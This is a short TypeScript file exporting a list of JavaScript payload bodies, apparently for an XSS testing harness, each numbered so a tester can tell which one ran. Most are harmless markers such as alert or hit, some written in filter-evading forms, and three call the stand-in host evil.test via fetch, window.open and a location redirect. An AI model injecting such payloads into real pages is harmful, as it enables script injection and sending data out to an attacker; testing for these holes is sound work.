/**
 * What a string does if it runs; `{n}` stands for its number. None has quotes or blanks, so that each stands anywhere.
 * Most only tell of themselves: one that leaves its page ends what the others there would do.
 */
export const effects: readonly string[] = [
  'hit({n})',
  'alert({n})',
  'top.hit({n})',
  'hit`{n}`',
  'confirm({n})',
  'self[`h`+`it`]({n})',
  'fetch(`//evil.test/{n}`)',
  'console.log({n})',
  'hit({n})',
  'window.open(`//evil.test/{n}`)',
  'hit({n})',
  'location=`//evil.test/{n}`',
]
